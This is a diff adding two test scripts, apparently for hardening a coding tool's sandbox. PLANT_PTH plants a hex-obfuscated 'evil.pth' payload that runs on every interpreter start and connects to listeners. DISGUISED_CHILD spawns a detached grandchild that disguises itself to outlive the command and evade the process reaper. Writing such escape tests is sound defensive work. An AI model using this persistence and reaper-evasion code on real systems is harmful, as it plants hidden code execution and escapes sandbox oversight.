@@ -166,6 +166,84 @@ os.waitpid(pid, 0)
 print("parent exits; the detached grandchild keeps writing", target, flush=True)
 '''
 
+# Plants ``evil.pth`` in the venv's site-packages and deletes the install marker, forcing the
+# next ``AppEnvironment.ensure()`` to run the network step. A ``.pth`` line starting with
+# "import" runs in every interpreter started on that venv, uv's interpreter query included.
+# The payload (argv: "host:port,..." then proof file paths) writes each proof file, then
+# connects to each listener and sends a line. Prints the usual JSON report.
+PLANT_PTH = r'''
+import json, os, pathlib, sys, sysconfig
+targets, proofs = sys.argv[1], sys.argv[2].split(",")
+payload = (
+    "import json, socket\n"
+    f"proofs = {proofs!r}\n"
+    f"targets = {targets!r}.split(',')\n"
+    "seen = []\n"
+    "for target in targets:\n"
+    "    host, port = target.rsplit(':', 1)\n"
+    "    try:\n"
+    "        with socket.create_connection((host, int(port)), timeout=3) as conn:\n"
+    "            conn.sendall(b'pth ran with network\\n')\n"
+    "        seen.append(target)\n"
+    "    except OSError:\n"
+    "        pass\n"
+    "for proof in proofs:\n"
+    "    try:\n"
+    "        open(proof, 'w').write(json.dumps({'pth': 'ran', 'connected': seen}))\n"
+    "    except OSError:\n"
+    "        pass\n"
+)
+site = pathlib.Path(sysconfig.get_paths()["purelib"])
+line = "import sys; exec(bytes.fromhex(%r).decode())\n" % payload.encode().hex()
+(site / "evil.pth").write_text(line)
+marker = pathlib.Path(sys.prefix) / ".multicoder-deps.json"
+marker.unlink(missing_ok=True)
+print(json.dumps({"attempts": [{"planted": str(site / "evil.pth"),
+                                "marker_deleted": not marker.exists()}]}))
+'''
+
+# A detached grandchild (setsid, double fork) in disguise, appending to a file for 30 s: argv
+# is <disguise> <marker> <file>. Disguises: "forged" (MULTICODER_EXEC=forged instead of the
+# command's marker), "reaper" (no marker, MULTICODER_REAPER=1, what the old reaper spared
+# itself by), "nondumpable" (no marker, prctl(PR_SET_DUMPABLE, 0), which makes its
+# /proc/<pid>/environ unreadable to the sandbox user). The command returns only once the
+# grandchild has written its first line, so it is surely alive when the command ends.
+DISGUISED_CHILD = r'''
+import ctypes, os, pathlib, sys, time
+disguise, marker, target = sys.argv[1], sys.argv[2], pathlib.Path(sys.argv[3])
+if disguise.startswith("child-"):
+    if disguise == "child-nondumpable":
+        ctypes.CDLL(None, use_errno=True).prctl(4, 0, 0, 0, 0)  # PR_SET_DUMPABLE, 0
+    end, beat = time.time() + 30, 0
+    while time.time() < end:
+        beat += 1
+        with target.open("a") as handle:
+            handle.write(f"{marker} {beat} {time.time()}\n")
+        time.sleep(0.1)
+    os._exit(0)
+target.unlink(missing_ok=True)
+pid = os.fork()
+if pid == 0:
+    os.setsid()
+    if os.fork() != 0:
+        os._exit(0)
+    null = os.open(os.devnull, os.O_RDWR)
+    for fd in (0, 1, 2):
+        os.dup2(null, fd)
+    env = {k: v for k, v in os.environ.items() if k != "MULTICODER_EXEC"}
+    if disguise == "forged":
+        env["MULTICODER_EXEC"] = "forged"
+    elif disguise == "reaper":
+        env["MULTICODER_REAPER"] = "1"
+    os.execve(sys.executable, [sys.executable, sys.argv[0], "child-" + disguise, marker,
+                               str(target)], env)
+os.waitpid(pid, 0)
+deadline = time.time() + 10
+while not (target.exists() and target.read_text()) and time.time() < deadline:
+    time.sleep(0.05)
+print("parent exits; the disguised grandchild is writing", target.exists(), flush=True)
+'''
+
 FIND_MARKER = r'''
 import glob, pathlib, sys
 found = []
